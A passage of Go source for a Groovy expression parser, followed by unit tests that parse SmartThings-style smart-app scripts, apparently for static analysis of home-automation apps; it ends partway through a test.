		return true
	}
	return false
}

// parseExpr parses a full expression (ternary precedence and below).
func (p *parser) parseExpr() (Expr, error) {
	x, err := p.parseUnary()
	if err != nil {
		return nil, err
	}
	return p.continueBinary(x, 0)
}

// Binary operator precedence, loosest first.
func precOf(k Kind) int {
	switch k {
	case OrOr:
		return 1
	case AndAnd:
		return 2
	case Eq, NotEq, Compare:
		return 3
	case Lt, LtEq, Gt, GtEq, KwIn, KwInstanceof:
		return 4
	case Range:
		return 5
	case Plus, Minus:
		return 6
	case Star, Slash, Percent:
		return 7
	case Power:
		return 8
	}
	return 0
}

// continueBinary parses binary operators of precedence >= min that follow
// an already-parsed left operand, then ternary/elvis at the top.
func (p *parser) continueBinary(left Expr, min int) (Expr, error) {
	for {
		k := p.cur().Kind
		// `as Type` cast: semantically transparent for analysis.
		if k == IDENT && p.cur().Text == "as" && p.peek(1).Kind == IDENT {
			pos := p.cur().Pos
			p.next()
			ty := p.next().Text
			call := p.newCall(pos)
			call.Receiver, call.Method = left, "asType"
			call.Args = p.ast.exprs.seal([]Expr{p.newStrLit(ty, pos)})
			left = call
			continue
		}
		prec := precOf(k)
		if prec == 0 || prec < min {
			break
		}
		opTok := p.next()
		p.skipNewlines()
		if k == Range {
			hi, err := p.parseUnary()
			if err != nil {
				return nil, err
			}
			hi, err = p.climbRight(hi, prec+1)
			if err != nil {
				return nil, err
			}
			left = &RangeLit{Lo: left, Hi: hi, Pos_: opTok.Pos}
			continue
		}
		if k == KwInstanceof {
			// `x instanceof Type` — consume the type, yield a call node.
			ty, err := p.expect(IDENT)
			if err != nil {
				return nil, err
			}
			call := p.newCall(opTok.Pos)
			call.Receiver, call.Method = left, "instanceOf"
			call.Args = p.ast.exprs.seal([]Expr{p.newStrLit(ty.Text, ty.Pos)})
			left = call
			continue
		}
		right, err := p.parseUnary()
		if err != nil {
			return nil, err
		}
		right, err = p.climbRight(right, prec+1)
		if err != nil {
			return nil, err
		}
		op := k
		if k == KwIn {
			op = KwIn
		}
		left = p.newBinary(op, left, right, opTok.Pos)
	}
	if min > 0 {
		return left, nil
	}
	// Ternary / elvis bind loosest.
	switch p.cur().Kind {
	case Question:
		pos := p.next().Pos
		p.skipNewlines()
		thenE, err := p.parseExpr()
		if err != nil {
			return nil, err
		}
		p.skipNewlines()
		if _, err := p.expect(Colon); err != nil {
			return nil, err
		}
		p.skipNewlines()
		elseE, err := p.parseExpr()
		if err != nil {
			return nil, err
		}
		return &Ternary{Cond: left, Then: thenE, Else: elseE, Pos_: pos}, nil
	case Elvis:
		pos := p.next().Pos
		p.skipNewlines()
		elseE, err := p.parseExpr()
		if err != nil {
			return nil, err
		}
		return &ElvisExpr{Cond: left, Else: elseE, Pos_: pos}, nil
	}
	return left, nil
}

func (p *parser) climbRight(right Expr, min int) (Expr, error) {
	for {
		prec := precOf(p.cur().Kind)
		if prec < min || prec == 0 {
			return right, nil
		}
		var err error
		right, err = p.continueBinary(right, prec)
		if err != nil {
			return nil, err
		}
		if precOf(p.cur().Kind) < min {
			return right, nil
		}
	}
}

func (p *parser) parseUnary() (Expr, error) {
	switch p.cur().Kind {
	case Not, Minus, Plus:
		opTok := p.next()
		x, err := p.parseUnary()
		if err != nil {
			return nil, err
		}
		if opTok.Kind == Plus {
			return x, nil
		}
		// Fold -number into a literal.
		if n, ok := x.(*NumLit); ok && opTok.Kind == Minus {
			lit := p.ast.nums.alloc(8)
			if n.IsInt {
				lit.Raw, lit.Int, lit.IsInt, lit.Pos_ = "-"+n.Raw, -n.Int, true, opTok.Pos
			} else {
				lit.Raw, lit.Float, lit.Pos_ = "-"+n.Raw, -n.Float, opTok.Pos
			}
			return lit, nil
		}
		return &Unary{Op: opTok.Kind, X: x, Pos_: opTok.Pos}, nil
	case Incr, Decr:
		// Prefix ++x: treated as x+1 expression (statement form handled
		// in parseSimpleStatement).
		p.next()
		return p.parseUnary()
	}
	return p.parsePostfix()
}

// parsePostfix parses a primary followed by property access, indexing,
// calls and trailing closures.
func (p *parser) parsePostfix() (Expr, error) {
	x, err := p.parsePrimary()
	if err != nil {
		return nil, err
	}
	for {
		switch p.cur().Kind {
		case Dot, SafeDot, Star:
			safe := p.at(SafeDot)
			// Spread-dot `*.` — treat like plain dot.
			if p.at(Star) {
				if p.peek(1).Kind != Dot {
					return x, nil
				}
				p.next()
			}
			p.next()
			nameTok := p.cur()
			var name string
			switch nameTok.Kind {
			case IDENT, KwCase, KwDefault, KwIn:
				name = nameTok.Text
				p.next()
			case STRING, GSTRING:
				name = nameTok.Text
				p.next()
			default:
				return nil, p.errf("expected property name after '.', found %s", nameTok)
			}
			if p.at(LParen) {
				call := p.newCall(nameTok.Pos)
				call.Receiver, call.Method, call.Safe = x, name, safe
				if err := p.parseParenArgs(call); err != nil {
					return nil, err
				}
				x = p.attachTrailingClosure(call)
			} else if p.at(LBrace) && p.closureFollows() {
				call := p.newCall(nameTok.Pos)
				call.Receiver, call.Method, call.Safe = x, name, safe
				cl, err := p.parseClosure()
				if err != nil {
					return nil, err
				}
				call.Args = append(call.Args, cl)
				x = call
			} else {
				pg := p.ast.props.alloc(8)
				pg.Receiver, pg.Name, pg.Safe, pg.Pos_ = x, name, safe, nameTok.Pos
				x = pg
			}
		case LBracket:
			lb := p.next()
			idx, err := p.parseExpr()
			if err != nil {
				return nil, err
			}
			if _, err := p.expect(RBracket); err != nil {
				return nil, err
			}
			x = &IndexGet{Receiver: x, Index: idx, Pos_: lb.Pos}
		case LParen:
			ident, ok := x.(*Ident)
			if !ok {
				return x, nil
			}
			call := p.newCall(ident.Pos_)
			call.Method = ident.Name
			if err := p.parseParenArgs(call); err != nil {
				return nil, err
			}
			x = p.attachTrailingClosure(call)
		case LBrace:
			// Trailing closure on a bare identifier: `preferences { ... }`.
			ident, ok := x.(*Ident)
			if !ok || !p.closureFollows() {
				return x, nil
			}
			call := p.newCall(ident.Pos_)
			call.Method = ident.Name
			cl, err := p.parseClosure()
			if err != nil {
				return nil, err
			}
			call.Args = append(call.Args, cl)
			x = call
		default:
			return x, nil
		}
	}
}

// closureFollows distinguishes a closure literal from a block statement.
// It is called with the current token at '{'. We treat '{' as a closure
// in expression/postfix position always (blocks are never valid there).
func (p *parser) closureFollows() bool { return p.at(LBrace) }

func (p *parser) attachTrailingClosure(call *Call) Expr {
	if p.at(LBrace) {
		cl, err := p.parseClosure()
		if err == nil {
			call.Args = append(call.Args, cl)
		}
	}
	return call
}

func (p *parser) parseParenArgs(call *Call) error {
	if _, err := p.expect(LParen); err != nil {
		return err
	}
	if p.at(RParen) {
		p.next()
		return nil
	}
	if err := p.parseArgListInto(call, true); err != nil {
		return err
	}
	_, err := p.expect(RParen)
	return err
}

// parseArgListInto parses a comma-separated argument list with optional
// named arguments. When paren is false the list ends at a statement
// boundary (NEWLINE/Semi/EOF/RBrace/closing tokens). Arguments accumulate
// on the scratch stacks and are sealed into the call when the list ends.
func (p *parser) parseArgListInto(call *Call, paren bool) error {
	argStart := len(p.exprScratch)
	namedStart := len(p.entryScratch)
	err := p.parseArgList(paren)
	if err == nil {
		call.Args = p.ast.exprs.seal(p.exprScratch[argStart:])
		call.Named = p.ast.entries.seal(p.entryScratch[namedStart:])
	}
	p.exprScratch = p.exprScratch[:argStart]
	p.entryScratch = p.entryScratch[:namedStart]
	return err
}

func (p *parser) parseArgList(paren bool) error {
	for {
		p.skipNewlines()
		// Named argument `name: value`.
		if (p.at(IDENT) || p.at(STRING) || p.at(GSTRING)) && p.peek(1).Kind == Colon {
			keyTok := p.next()
			p.next() // colon
			p.skipNewlines()
			v, err := p.parseExpr()
			if err != nil {
				return err
			}
			p.entryScratch = append(p.entryScratch, MapEntry{
				Key:   p.newStrLit(keyTok.Text, keyTok.Pos),
				Value: v,
			})
		} else {
			v, err := p.parseExpr()
			if err != nil {
				return err
			}
			p.exprScratch = append(p.exprScratch, v)
		}
		if p.at(Comma) {
			p.next()
			continue
		}
		if paren {
			p.skipNewlines()
			if p.at(Comma) {
				p.next()
				continue
			}
		}
		return nil
	}
}

func (p *parser) parseClosure() (Expr, error) {
	lb, err := p.expect(LBrace)
	if err != nil {
		return nil, err
	}
	cl := p.ast.closures.alloc(4)
	cl.Pos_ = lb.Pos
	// Detect a parameter list: idents (optionally typed, with defaults)
	// followed by '->'.
	save := p.pos
	params, ok := p.tryParseClosureParams()
	if ok {
		cl.Params = params
	} else {
		p.pos = save
	}
	body := p.newBlock(lb.Pos)
	start := len(p.stmtScratch)
	for {
		p.skipSeparators()
		if p.at(RBrace) {
			p.next()
			body.Stmts = p.ast.stmts.seal(p.stmtScratch[start:])
			p.stmtScratch = p.stmtScratch[:start]
			cl.Body = body
			return cl, nil
		}
		if p.at(EOF) {
			p.stmtScratch = p.stmtScratch[:start]
			return nil, p.errf("unexpected EOF in closure")
		}
		st, err := p.parseStatement()
		if err != nil {
			p.stmtScratch = p.stmtScratch[:start]
			return nil, err
		}
		if st != nil {
			p.stmtScratch = append(p.stmtScratch, st)
		}
	}
}

func (p *parser) tryParseClosureParams() ([]Param, bool) {
	start := len(p.paramScratch)
	fail := func() ([]Param, bool) {
		p.paramScratch = p.paramScratch[:start]
		return nil, false
	}
	p.skipNewlines()
	for {
		if p.at(Arrow) {
			p.next()
			params := p.ast.params.seal(p.paramScratch[start:])
			p.paramScratch = p.paramScratch[:start]
			return params, true
		}
		if !p.at(IDENT) && !p.at(KwDef) {
			return fail()
		}
		if p.at(KwDef) {
			p.next()
		}
		if p.at(IDENT) && p.peek(1).Kind == IDENT {
			p.next() // type name
		}
		if !p.at(IDENT) {
			return fail()
		}
		p.paramScratch = append(p.paramScratch, Param{Name: p.next().Text})
		switch p.cur().Kind {
		case Comma:
			p.next()
			p.skipNewlines()
		case Arrow:
		default:
			return fail()
		}
	}
}

func (p *parser) parsePrimary() (Expr, error) {
	t := p.cur()
	switch t.Kind {
	case IDENT:
		p.next()
		return p.newIdent(t.Text, t.Pos), nil
	case NUMBER:
		p.next()
		return p.parseNumLit(t)
	case STRING:
		p.next()
		return p.newStrLit(t.Text, t.Pos), nil
	case GSTRING:
		p.next()
		return p.parseGString(t)
	case KwTrue:
		p.next()
		return p.newBoolLit(true, t.Pos), nil
	case KwFalse:
		p.next()
		return p.newBoolLit(false, t.Pos), nil
	case KwNull:
		p.next()
		return &NullLit{Pos_: t.Pos}, nil
	case LParen:
		p.next()
		x, err := p.parseExpr()
		if err != nil {
			return nil, err
		}
		if _, err := p.expect(RParen); err != nil {
			return nil, err
		}
		return x, nil
	case LBracket:
		return p.parseListOrMap()
	case LBrace:
		return p.parseClosure()
	case KwNew:
		p.next()
		ty, err := p.expect(IDENT)
		if err != nil {
			return nil, err
		}
		// Qualified type names: new java.util.Date()
		name := ty.Text
		for p.at(Dot) && p.peek(1).Kind == IDENT {
			p.next()
			name += "." + p.next().Text
		}
		ne := &NewExpr{Type: name, Pos_: t.Pos}
		if p.at(LParen) {
			call := p.newCall(t.Pos)
			call.Method = name
			if err := p.parseParenArgs(call); err != nil {
				return nil, err
			}
			ne.Args = call.Args
		}
		return ne, nil
	}
	return nil, p.errf("unexpected token %s in expression", t)
}

func (p *parser) parseNumLit(t Token) (Expr, error) {
	lit := p.ast.nums.alloc(8)
	if strings.Contains(t.Text, ".") {
		f, err := strconv.ParseFloat(t.Text, 64)
		if err != nil {
			return nil, &ParseError{Pos: t.Pos, Msg: "invalid number literal " + t.Text}
		}
		lit.Raw, lit.Float, lit.Pos_ = t.Text, f, t.Pos
		return lit, nil
	}
	i, err := strconv.ParseInt(t.Text, 10, 64)
	if err != nil {
		return nil, &ParseError{Pos: t.Pos, Msg: "invalid number literal " + t.Text}
	}
	lit.Raw, lit.Int, lit.IsInt, lit.Pos_ = t.Text, i, true, t.Pos
	return lit, nil
}

// gsFlush appends the literal segment [segStart:end) of s as a GString
// part; when pending, the segment continues escaped text accumulated in
// p.gsBuf[base:] (the only case that copies bytes). base is this
// GString's region of the shared buffer — interpolated expressions can
// nest another parseGString, which stacks its own region on top.
func (p *parser) gsFlush(s string, segStart, end int, base int, pending bool) {
	if pending {
		p.gsBuf = append(p.gsBuf, s[segStart:end]...)
		p.partScratch = append(p.partScratch, GStringPart{Text: string(p.gsBuf[base:])})
		p.gsBuf = p.gsBuf[:base]
		return
	}
	if end > segStart {
		p.partScratch = append(p.partScratch, GStringPart{Text: s[segStart:end]})
	}
}

// parseGString splits a GSTRING token into literal and interpolated parts.
// Literal segments without escaped dollars are substrings of the token
// text; parts accumulate on the scratch stack and seal into the slab.
func (p *parser) parseGString(t Token) (Expr, error) {
	g := p.ast.gstrings.alloc(8)
	g.Pos_ = t.Pos
	s := t.Text
	// Fast path: no '$' anywhere (log messages, plain labels) — one
	// literal part, no per-byte scan. '\\' only matters when escaping '$'.
	if strings.IndexByte(s, '$') < 0 {
		g.Parts = p.ast.parts.seal([]GStringPart{{Text: s}})
		return g, nil
	}
	partStart := len(p.partScratch)
	segStart := 0       // start of the current literal segment in s
	litPending := false // true when p.gsBuf[gsBase:] holds segment text (escape seen)
	gsBase := len(p.gsBuf)
	for i := 0; i < len(s); {
		if s[i] == '\\' && i+1 < len(s) && s[i+1] == '$' {
			p.gsBuf = append(p.gsBuf, s[segStart:i]...)
			p.gsBuf = append(p.gsBuf, '$')
			litPending = true
			i += 2
			segStart = i
			continue
		}
		if s[i] == '$' && i+1 < len(s) && s[i+1] == '{' {
			// Find the matching close brace.
			depth := 1
			j := i + 2
			for j < len(s) && depth > 0 {
				switch s[j] {
				case '{':
					depth++
				case '}':
					depth--
				}
				j++
			}
			if depth != 0 {
				p.partScratch = p.partScratch[:partStart]
				p.gsBuf = p.gsBuf[:gsBase]
				return nil, &ParseError{Pos: t.Pos, Msg: "unterminated ${...} interpolation"}
			}
			inner := s[i+2 : j-1]
			ex, err := p.parseInterpolatedExpr(inner, t.Pos)
			if err != nil {
				p.partScratch = p.partScratch[:partStart]
				p.gsBuf = p.gsBuf[:gsBase]
				return nil, err
			}
			p.gsFlush(s, segStart, i, gsBase, litPending)
			litPending = false
			p.partScratch = append(p.partScratch, GStringPart{Expr: ex})
			i = j
			segStart = i
			continue
		}
		if s[i] == '$' && i+1 < len(s) && isIdentStart(rune(s[i+1])) {
			// $ident(.ident)* interpolation.
			j := i + 1
			for j < len(s) && isIdentPart(rune(s[j])) {
				j++
			}
			for j < len(s) && s[j] == '.' && j+1 < len(s) && isIdentStart(rune(s[j+1])) {
				j++
				for j < len(s) && isIdentPart(rune(s[j])) {
					j++
				}
			}
			ex, err := p.parseInterpolatedExpr(s[i+1:j], t.Pos)
			if err != nil {
				p.partScratch = p.partScratch[:partStart]
				p.gsBuf = p.gsBuf[:gsBase]
				return nil, err
			}
			p.gsFlush(s, segStart, i, gsBase, litPending)
			litPending = false
			p.partScratch = append(p.partScratch, GStringPart{Expr: ex})
			i = j
			segStart = i
			continue
		}
		i++
	}
	p.gsFlush(s, segStart, len(s), gsBase, litPending)
	if len(p.partScratch) == partStart {
		p.partScratch = append(p.partScratch, GStringPart{Text: ""})
	}
	g.Parts = p.ast.parts.seal(p.partScratch[partStart:])
	p.partScratch = p.partScratch[:partStart]
	return g, nil
}

// buildDottedPath builds the AST for a plain `ident(.ident)*`
// interpolation directly — the overwhelmingly common form — producing
// exactly the nodes (and interpolation-relative positions) the
// tokenizer+parser pipeline would. Anything else (keywords, non-ASCII,
// calls, operators) reports false and takes the full parse.
func (p *parser) buildDottedPath(src string) (Expr, bool) {
	var x Expr
	segStart := 0
	for i := 0; ; i++ {
		if i < len(src) && src[i] != '.' {
			c := src[i]
			ok := c == '_' || c == '$' || (c|0x20) >= 'a' && (c|0x20) <= 'z' ||
				(c >= '0' && c <= '9' && i > segStart)
			if !ok {
				return nil, false
			}
			continue
		}
		seg := src[segStart:i]
		if seg == "" {
			return nil, false
		}
		if _, kw := keywords[seg]; kw {
			return nil, false
		}
		if x == nil {
			x = p.newIdent(seg, Pos{Line: 1, Col: int32(segStart + 1)})
		} else {
			pg := p.ast.props.alloc(8)
			pg.Receiver, pg.Name, pg.Pos_ = x, seg, Pos{Line: 1, Col: int32(segStart + 1)}
			x = pg
		}
		if i == len(src) {
			return x, true
		}
		segStart = i + 1
	}
}

// parseInterpolatedExpr parses the expression inside a ${...} or $ident
// interpolation by retargeting this parser at a freshly lexed token buffer
// (pooled), so interpolations share the surrounding parse's arenas and
// scratch stacks instead of building a parser per part.
func (p *parser) parseInterpolatedExpr(src string, pos Pos) (Expr, error) {
	if ex, ok := p.buildDottedPath(src); ok {
		return ex, nil
	}
	bufp, _ := tokenPool.Get().(*[]Token)
	if bufp == nil {
		bufp = new([]Token)
	}
	toks, err := appendTokens((*bufp)[:0], src)
	*bufp = toks[:0]
	defer tokenPool.Put(bufp)
	if err != nil {
		return nil, &ParseError{Pos: pos, Msg: "bad interpolation: " + err.Error()}
	}
	savedToks, savedPos := p.toks, p.pos
	p.toks, p.pos = toks, 0
	ex, err := p.parseExpr()
	p.toks, p.pos = savedToks, savedPos
	if err != nil {
		return nil, &ParseError{Pos: pos, Msg: "bad interpolation: " + err.Error()}
	}
	return ex, nil
}

// parseListOrMap parses [a,b] list, [k:v] map, or [:] empty map literals.
func (p *parser) parseListOrMap() (Expr, error) {
	lb, err := p.expect(LBracket)
	if err != nil {
		return nil, err
	}
	p.skipNewlines()
	// Empty map [:].
	if p.at(Colon) && p.peek(1).Kind == RBracket {
		p.next()
		p.next()
		return &MapLit{Pos_: lb.Pos}, nil
	}
	// Empty list [].
	if p.at(RBracket) {
		p.next()
		return &ListLit{Pos_: lb.Pos}, nil
	}
	// Decide map vs list: a key followed by ':' means map.
	isMap := (p.at(IDENT) || p.at(STRING) || p.at(GSTRING) || p.at(NUMBER)) && p.peek(1).Kind == Colon
	if isMap {
		m := &MapLit{Pos_: lb.Pos}
		entryStart := len(p.entryScratch)
		bail := func(err error) (Expr, error) {
			p.entryScratch = p.entryScratch[:entryStart]
			return nil, err
		}
		for {
			p.skipNewlines()
			keyTok := p.cur()
			var key Expr
			switch keyTok.Kind {
			case IDENT, STRING:
				key = p.newStrLit(keyTok.Text, keyTok.Pos)
				p.next()
			case GSTRING:
				p.next()
				k, err := p.parseGString(keyTok)
				if err != nil {
					return bail(err)
				}
				key = k
			case NUMBER:
				p.next()
				k, err := p.parseNumLit(keyTok)
				if err != nil {
					return bail(err)
				}
				key = k
			case LParen:
				p.next()
				k, err := p.parseExpr()
				if err != nil {
					return bail(err)
				}
				if _, err := p.expect(RParen); err != nil {
					return bail(err)
				}
				key = k
			default:
				return bail(p.errf("bad map key %s", keyTok))
			}
			if _, err := p.expect(Colon); err != nil {
				return bail(err)
			}
			p.skipNewlines()
			v, err := p.parseExpr()
			if err != nil {
				return bail(err)
			}
			p.entryScratch = append(p.entryScratch, MapEntry{Key: key, Value: v})
			p.skipNewlines()
			if p.at(Comma) {
				p.next()
				p.skipNewlines()
				if p.at(RBracket) {
					break
				}
				continue
			}
			break
		}
		p.skipNewlines()
		if _, err := p.expect(RBracket); err != nil {
			return bail(err)
		}
		m.Entries = p.ast.entries.seal(p.entryScratch[entryStart:])
		p.entryScratch = p.entryScratch[:entryStart]
		return m, nil
	}
	l := &ListLit{Pos_: lb.Pos}
	exprStart := len(p.exprScratch)
	bail := func(err error) (Expr, error) {
		p.exprScratch = p.exprScratch[:exprStart]
		return nil, err
	}
	for {
		p.skipNewlines()
		v, err := p.parseExpr()
		if err != nil {
			return bail(err)
		}
		p.exprScratch = append(p.exprScratch, v)
		p.skipNewlines()
		if p.at(Comma) {
			p.next()
			p.skipNewlines()
			if p.at(RBracket) {
				break
			}
			continue
		}
		break
	}
	p.skipNewlines()
	if _, err := p.expect(RBracket); err != nil {
		return bail(err)
	}
	l.Elems = p.ast.exprs.seal(p.exprScratch[exprStart:])
	p.exprScratch = p.exprScratch[:exprStart]
	return l, nil
}
