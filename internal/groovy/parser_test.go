package groovy

import (
	"testing"
)

func mustParse(t *testing.T, src string) *Script {
	t.Helper()
	s, err := Parse(src)
	if err != nil {
		t.Fatalf("Parse failed: %v\nsource:\n%s", err, src)
	}
	return s
}

const comfortTV = `
input "tv1", "capability.switch", title: "Which TV?"
input "tSensor", "capability.temperatureMeasurement"
input "threshold1", "number", title: "Higher than?"
input "window1", "capability.switch"
def installed() {
    subscribe(tv1, "switch", onHandler)
}
def updated() {
    unsubscribe()
    subscribe(tv1, "switch", onHandler)
}
def onHandler(evt) {
    def t = tSensor.currentValue("temperature")
    if ((evt.value == "on") && (t > threshold1)) turnOnWindow()
}
def turnOnWindow() {
    if (window1.currentSwitch == "off")
        window1.on()
}
`

func TestParseComfortTV(t *testing.T) {
	s := mustParse(t, comfortTV)
	for _, m := range []string{"installed", "updated", "onHandler", "turnOnWindow"} {
		if s.Method(m) == nil {
			t.Errorf("method %q not found", m)
		}
	}
	inputs := s.TopLevelCalls("input")
	if len(inputs) != 4 {
		t.Fatalf("expected 4 input calls, got %d", len(inputs))
	}
	// First input: positional args "tv1", "capability.switch"; named title.
	in := inputs[0]
	if len(in.Args) != 2 {
		t.Fatalf("input args = %d, want 2", len(in.Args))
	}
	if g, ok := in.Args[0].(*GStringLit); !ok || g.PlainText() != "tv1" {
		t.Errorf("first arg = %#v, want GString tv1", in.Args[0])
	}
	if in.NamedArg("title") == nil {
		t.Error("title named arg missing")
	}
}

func TestParseSubscribe(t *testing.T) {
	s := mustParse(t, comfortTV)
	subs := FindCalls(s, "subscribe")
	if len(subs) != 2 {
		t.Fatalf("expected 2 subscribe calls, got %d", len(subs))
	}
	c := subs[0]
	if len(c.Args) != 3 {
		t.Fatalf("subscribe args = %d, want 3", len(c.Args))
	}
	if id, ok := c.Args[0].(*Ident); !ok || id.Name != "tv1" {
		t.Errorf("subscribe device arg = %#v", c.Args[0])
	}
	if h, ok := c.Args[2].(*Ident); !ok || h.Name != "onHandler" {
		t.Errorf("subscribe handler arg = %#v", c.Args[2])
	}
}

func TestParseNestedIfCondition(t *testing.T) {
	s := mustParse(t, comfortTV)
	h := s.Method("onHandler")
	ifStmt, ok := h.Body.Stmts[1].(*IfStmt)
	if !ok {
		t.Fatalf("second stmt = %T, want *IfStmt", h.Body.Stmts[1])
	}
	and, ok := ifStmt.Cond.(*Binary)
	if !ok || and.Op != AndAnd {
		t.Fatalf("cond = %#v, want && binary", ifStmt.Cond)
	}
	eq, ok := and.L.(*Binary)
	if !ok || eq.Op != Eq {
		t.Fatalf("left = %#v, want == binary", and.L)
	}
	pg, ok := eq.L.(*PropertyGet)
	if !ok || pg.Name != "value" {
		t.Fatalf("evt.value access = %#v", eq.L)
	}
}

func TestParseCommandCallNoParens(t *testing.T) {
	s := mustParse(t, `
def handler(evt) {
    log.debug "something happened"
    sendSms phone1, "alert!"
    runIn 60, laterHandler
}
`)
	h := s.Method("handler")
	if len(h.Body.Stmts) != 3 {
		t.Fatalf("stmts = %d, want 3", len(h.Body.Stmts))
	}
	c0 := h.Body.Stmts[0].(*ExprStmt).X.(*Call)
	if c0.Method != "debug" {
		t.Errorf("c0.Method = %q", c0.Method)
	}
	if recv, ok := c0.Receiver.(*Ident); !ok || recv.Name != "log" {
		t.Errorf("c0.Receiver = %#v", c0.Receiver)
	}
	c1 := h.Body.Stmts[1].(*ExprStmt).X.(*Call)
	if c1.Method != "sendSms" || len(c1.Args) != 2 {
		t.Errorf("c1 = %#v", c1)
	}
	c2 := h.Body.Stmts[2].(*ExprStmt).X.(*Call)
	if c2.Method != "runIn" || len(c2.Args) != 2 {
		t.Errorf("c2 = %#v", c2)
	}
}

func TestParsePreferencesClosure(t *testing.T) {
	s := mustParse(t, `
preferences {
    section("Pick devices") {
        input "switches", "capability.switch", multiple: true
        input "threshold", "number", defaultValue: 30
    }
}
`)
	inputs := FindCalls(s, "input")
	if len(inputs) != 2 {
		t.Fatalf("inputs = %d, want 2", len(inputs))
	}
	if inputs[1].NamedArg("defaultValue") == nil {
		t.Error("defaultValue named arg missing")
	}
	sections := FindCalls(s, "section")
	if len(sections) != 1 {
		t.Fatalf("sections = %d, want 1", len(sections))
	}
}

func TestParseDefinitionCall(t *testing.T) {
	s := mustParse(t, `
definition(
    name: "Comfort TV",
    namespace: "repro",
    author: "x",
    description: "Opens the window when the TV is on and it is hot.",
    category: "Convenience")
`)
	defs := s.TopLevelCalls("definition")
	if len(defs) != 1 {
		t.Fatalf("definition calls = %d", len(defs))
	}
	name := defs[0].NamedArg("name")
	if g, ok := name.(*GStringLit); !ok || g.PlainText() != "Comfort TV" {
		t.Errorf("name = %#v", name)
	}
}

func TestParseSwitchStatement(t *testing.T) {
	s := mustParse(t, `
def handler(evt) {
    switch (evt.value) {
        case "on":
            doOn()
            break
        case "off":
            doOff()
            break
        default:
            doOther()
    }
}
`)
	h := s.Method("handler")
	sw := h.Body.Stmts[0].(*SwitchStmt)
	if len(sw.Cases) != 2 {
		t.Fatalf("cases = %d, want 2", len(sw.Cases))
	}
	if sw.Default == nil {
		t.Fatal("default missing")
	}
	if len(sw.Cases[0].Body.Stmts) != 2 {
		t.Errorf("case body stmts = %d, want 2 (call + break)", len(sw.Cases[0].Body.Stmts))
	}
}

func TestParseTernaryAndElvis(t *testing.T) {
	s := mustParse(t, `
def f() {
    def a = x > 5 ? "hi" : "lo"
    def b = y ?: 10
}
`)
	f := s.Method("f")
	d0 := f.Body.Stmts[0].(*DeclStmt)
	if _, ok := d0.Init.(*Ternary); !ok {
		t.Errorf("a init = %#v, want ternary", d0.Init)
	}
	d1 := f.Body.Stmts[1].(*DeclStmt)
	if _, ok := d1.Init.(*ElvisExpr); !ok {
		t.Errorf("b init = %#v, want elvis", d1.Init)
	}
}

func TestParseClosures(t *testing.T) {
	s := mustParse(t, `
def f() {
    devices.each { dev ->
        dev.on()
    }
    list.each { it.off() }
    values.findAll { v -> v > 3 }
}
`)
	f := s.Method("f")
	c0 := f.Body.Stmts[0].(*ExprStmt).X.(*Call)
	if c0.Method != "each" || len(c0.Args) != 1 {
		t.Fatalf("each call = %#v", c0)
	}
	cl := c0.Args[0].(*ClosureExpr)
	if len(cl.Params) != 1 || cl.Params[0].Name != "dev" {
		t.Errorf("closure params = %#v", cl.Params)
	}
	c1 := f.Body.Stmts[1].(*ExprStmt).X.(*Call)
	cl1 := c1.Args[0].(*ClosureExpr)
	if len(cl1.Params) != 0 {
		t.Errorf("implicit-it closure should have no params: %#v", cl1.Params)
	}
}

func TestParseMapAndListLiterals(t *testing.T) {
	s := mustParse(t, `
def f() {
    def m = [devRefStr: "tv1", devRef: tv1]
    def l = [[a: 1], [a: 2]]
    def e = [:]
    def xs = [1, 2, 3]
}
`)
	f := s.Method("f")
	m := f.Body.Stmts[0].(*DeclStmt).Init.(*MapLit)
	if len(m.Entries) != 2 {
		t.Fatalf("map entries = %d", len(m.Entries))
	}
	l := f.Body.Stmts[1].(*DeclStmt).Init.(*ListLit)
	if len(l.Elems) != 2 {
		t.Fatalf("list elems = %d", len(l.Elems))
	}
	if _, ok := l.Elems[0].(*MapLit); !ok {
		t.Errorf("nested map lit = %#v", l.Elems[0])
	}
	e := f.Body.Stmts[2].(*DeclStmt).Init.(*MapLit)
	if len(e.Entries) != 0 {
		t.Errorf("empty map entries = %d", len(e.Entries))
	}
	xs := f.Body.Stmts[3].(*DeclStmt).Init.(*ListLit)
	if len(xs.Elems) != 3 {
		t.Errorf("list elems = %d", len(xs.Elems))
	}
}

func TestParseGStringInterpolation(t *testing.T) {
	s := mustParse(t, `
def f() {
    def uri = "http://my.com/appname:${appname}/"
    def msg = "value is $evt.value now"
}
`)
	f := s.Method("f")
	g := f.Body.Stmts[0].(*DeclStmt).Init.(*GStringLit)
	if g.IsPlain() {
		t.Fatal("expected interpolation")
	}
	if len(g.Parts) != 3 {
		t.Fatalf("parts = %d, want 3", len(g.Parts))
	}
	if g.Parts[0].Text != "http://my.com/appname:" {
		t.Errorf("part0 = %q", g.Parts[0].Text)
	}
	if id, ok := g.Parts[1].Expr.(*Ident); !ok || id.Name != "appname" {
		t.Errorf("part1 = %#v", g.Parts[1].Expr)
	}
	g2 := f.Body.Stmts[1].(*DeclStmt).Init.(*GStringLit)
	var sawProp bool
	for _, part := range g2.Parts {
		if pg, ok := part.Expr.(*PropertyGet); ok && pg.Name == "value" {
			sawProp = true
		}
	}
	if !sawProp {
		t.Errorf("$evt.value interpolation not parsed: %#v", g2.Parts)
	}
}

func TestParseForLoops(t *testing.T) {
	s := mustParse(t, `
def f() {
    for (d in devices) { d.on() }
    for (int i = 0; i < 5; i++) { log.debug "i" }
    while (x < 10) { x = x + 1 }
}
`)
	f := s.Method("f")
	fi := f.Body.Stmts[0].(*ForStmt)
	if !fi.IsForIn() || fi.Var != "d" {
		t.Errorf("for-in = %#v", fi)
	}
	fc := f.Body.Stmts[1].(*ForStmt)
	if fc.IsForIn() || fc.Cond == nil || fc.Post == nil {
		t.Errorf("c-style for = %#v", fc)
	}
	if _, ok := f.Body.Stmts[2].(*WhileStmt); !ok {
		t.Errorf("while = %#v", f.Body.Stmts[2])
	}
}

func TestParseElseIfChain(t *testing.T) {
	s := mustParse(t, `
def f(evt) {
    if (evt.value == "on") {
        a()
    } else if (evt.value == "off") {
        b()
    } else {
        c()
    }
}
`)
	f := s.Method("f")
	ifStmt := f.Body.Stmts[0].(*IfStmt)
	elif, ok := ifStmt.Else.(*IfStmt)
	if !ok {
		t.Fatalf("else branch = %T, want *IfStmt", ifStmt.Else)
	}
	if _, ok := elif.Else.(*Block); !ok {
		t.Fatalf("final else = %T, want *Block", elif.Else)
	}
}

func TestParseElseOnNextLine(t *testing.T) {
	s := mustParse(t, "def f() {\n  if (x) { a() }\n  else { b() }\n}")
	f := s.Method("f")
	ifStmt := f.Body.Stmts[0].(*IfStmt)
